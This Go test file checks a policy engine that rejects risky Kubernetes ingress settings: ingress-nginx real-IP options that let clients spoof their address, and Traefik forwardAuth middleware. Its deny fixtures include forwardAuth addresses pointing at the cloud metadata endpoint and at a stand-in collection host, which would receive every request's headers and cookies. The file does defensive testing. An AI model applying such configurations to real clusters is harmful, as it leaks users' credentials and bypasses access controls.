package policy_test

import (
	"testing"

	"github.com/ztci/ztci/policy"
)

// TestReview28KubernetesNginxRealIP: ingress-nginx's use-forwarded-headers,
// enable-real-ip and use-proxy-protocol turn on nginx's realip module,
// which takes each client's address from X-Forwarded-For (or the header
// forwarded-for-header names, or the PROXY protocol line) as sent by any
// peer proxy-real-ip-cidr lists, 0.0.0.0/0 by default:
// a client then names its own address past every whitelist-source-range,
// denylist-source-range and block-cidrs check. A ConfigMap setting any of
// them (or compute-full-forwarded-for, or widening proxy-real-ip-cidr, or
// renaming the header) was harmless. Now each switch needs a
// proxy-real-ip-cidr whose every entry, and a forwarded-for-header other
// than X-Forwarded-For, allowed_ingress_real_ip lists, exactly.
func TestReview28KubernetesNginxRealIP(t *testing.T) {
	t.Parallel()
	const lb = "10.20.0.0/16"
	cfg := acmeConfig()
	cfg.Kubernetes.AllowedIngressRealIP = []string{lb, "CF-Connecting-IP"}
	e := newConfigured(t, cfg)
	cm := review24NginxConfigMap
	for _, tc := range []struct {
		name string
		data map[string]any
	}{
		{"use-forwarded-headers from anywhere", map[string]any{"use-forwarded-headers": "true"}},
		{"enable-real-ip from anywhere", map[string]any{"enable-real-ip": "true"}},
		{"use-proxy-protocol from anywhere", map[string]any{"use-proxy-protocol": "true"}},
		{"compute-full-forwarded-for from anywhere", map[string]any{"compute-full-forwarded-for": "true"}},
		{"switch spelled 1", map[string]any{"use-forwarded-headers": "1"}},
		{"switch spelled T", map[string]any{"enable-real-ip": "T"}},
		{"switch not a text", map[string]any{"use-forwarded-headers": true}},
		{"switch in another case", map[string]any{"Use-Forwarded-Headers": "true"}},
		{"explicit wildcard", map[string]any{"use-forwarded-headers": "true", "proxy-real-ip-cidr": "0.0.0.0/0"}},
		{"wildcard split in halves", map[string]any{"use-forwarded-headers": "true", "proxy-real-ip-cidr": "0.0.0.0/1,128.0.0.0/1"}},
		{"listed and an unlisted entry", map[string]any{"enable-real-ip": "true", "proxy-real-ip-cidr": lb + ", 0.0.0.0/0"}},
		{"empty cidr list", map[string]any{"enable-real-ip": "true", "proxy-real-ip-cidr": " , "}},
		{"cidr in another case, unlisted", map[string]any{"enable-real-ip": "true", "proxy-real-ip-cidr": lb, "Proxy-Real-IP-CIDR": "::/0"}},
		{"cidr not a text", map[string]any{"enable-real-ip": "true", "proxy-real-ip-cidr": []any{lb}}},
		{"widening cidr alone", map[string]any{"proxy-real-ip-cidr": "0.0.0.0/0"}},
		{"unlisted header", map[string]any{"forwarded-for-header": "X-Client-IP"}},
		{"unlisted header with a listed cidr", map[string]any{"use-forwarded-headers": "true", "proxy-real-ip-cidr": lb, "forwarded-for-header": "True-Client-IP"}},
		{"header not a text", map[string]any{"forwarded-for-header": 1}},
	} {
		wantDeny(t, e, tc.name, cm(tc.data), "kubernetes.unknown_kind")
	}
	wantDeny(t, newConfigured(t, acmeConfig()), "listed cidr with no list", cm(map[string]any{"use-forwarded-headers": "true", "proxy-real-ip-cidr": lb}), "kubernetes.unknown_kind")
	for _, tc := range []struct {
		name string
		data map[string]any
	}{
		{"switches off", map[string]any{"use-forwarded-headers": "false", "enable-real-ip": "0", "use-proxy-protocol": "", "compute-full-forwarded-for": "False"}},
		{"behind a listed load balancer", map[string]any{"use-forwarded-headers": "true", "compute-full-forwarded-for": "true", "proxy-real-ip-cidr": " " + lb + " "}},
		{"proxy protocol behind a listed load balancer", map[string]any{"use-proxy-protocol": "true", "proxy-real-ip-cidr": lb}},
		{"listed header", map[string]any{"enable-real-ip": "true", "proxy-real-ip-cidr": lb, "forwarded-for-header": "CF-Connecting-IP"}},
		{"default header in any case", map[string]any{"forwarded-for-header": "x-forwarded-for"}},
		{"unrelated ConfigMap", map[string]any{"real-ip": "true", "cidr": "0.0.0.0/0"}},
	} {
		review21Allowed(t, e, tc.name, cm(tc.data))
	}

	bad := acmeConfig()
	bad.Kubernetes.AllowedIngressRealIP = []string{""}
	if err := bad.Validate(); err == nil {
		t.Error("an empty AllowedIngressRealIP entry was accepted")
	}
}

// TestReview28KubernetesTraefikForwardAuth: a Traefik Middleware with
// forwardAuth has Traefik send every request's headers and cookies to the
// address it names, from Traefik's network, like ingress-nginx's
// auth-url; with Middleware in allowed_kinds any address was accepted.
// Now it is judged even when listed: an address allowed_ingress_urls
// lists, exactly.
func TestReview28KubernetesTraefikForwardAuth(t *testing.T) {
	t.Parallel()
	const auth = "http://oauth2-proxy.auth.svc/oauth2/auth"
	cfg := acmeConfig()
	cfg.Kubernetes.AllowedKinds = append(cfg.Kubernetes.AllowedKinds, "Middleware")
	cfg.Kubernetes.AllowedIngressURLs = []string{auth}
	e := newConfigured(t, cfg)
	mw := func(group string, spec map[string]any) policy.Input {
		return review21Admit(map[string]any{"apiVersion": group + "/v1alpha1", "kind": "Middleware",
			"metadata": map[string]any{"name": "auth"}, "spec": spec})
	}
	for _, tc := range []struct {
		name string
		in   policy.Input
	}{
		{"traefik.io to the metadata service", mw("traefik.io", map[string]any{"forwardAuth": map[string]any{"address": "http://169.254.169.254/latest/meta-data/"}})},
		{"traefik.containo.us to an outside host", mw("traefik.containo.us", map[string]any{"forwardAuth": map[string]any{"address": "https://collect.evil.example/"}})},
		{"listed address with a suffix", mw("traefik.io", map[string]any{"forwardAuth": map[string]any{"address": auth + "?x=1"}})},
		{"ForwardAuth in another case", mw("traefik.io", map[string]any{"ForwardAuth": map[string]any{"address": "https://collect.evil.example/"}})},
		{"Address in another case", mw("traefik.io", map[string]any{"forwardAuth": map[string]any{"address": auth, "Address": "https://collect.evil.example/"}})},
		{"no address", mw("traefik.io", map[string]any{"forwardAuth": map[string]any{"trustForwardHeader": true}})},
		{"forwardAuth not an object", mw("traefik.io", map[string]any{"forwardAuth": "https://collect.evil.example/"})},
		{"address not a text", mw("traefik.io", map[string]any{"forwardAuth": map[string]any{"address": []any{auth}}})},
	} {
		wantDeny(t, e, tc.name, tc.in, "kubernetes.traefik")
	}
	noList := acmeConfig()
	noList.Kubernetes.AllowedKinds = append(noList.Kubernetes.AllowedKinds, "Middleware")
	wantDeny(t, newConfigured(t, noList), "listed address with no list", mw("traefik.io", map[string]any{"forwardAuth": map[string]any{"address": auth}}), "kubernetes.traefik")
	review21Allowed(t, e, "listed address", mw("traefik.io", map[string]any{"forwardAuth": map[string]any{"address": auth, "authResponseHeaders": []any{"X-User"}}}))
	review21Allowed(t, e, "other middleware", mw("traefik.containo.us", map[string]any{"stripPrefix": map[string]any{"prefixes": []any{"/api"}}}))
	wantDeny(t, newConfigured(t, acmeConfig()), "Middleware not in allowed_kinds", mw("traefik.io", map[string]any{"forwardAuth": map[string]any{"address": auth}}), "kubernetes.unknown_kind")
}
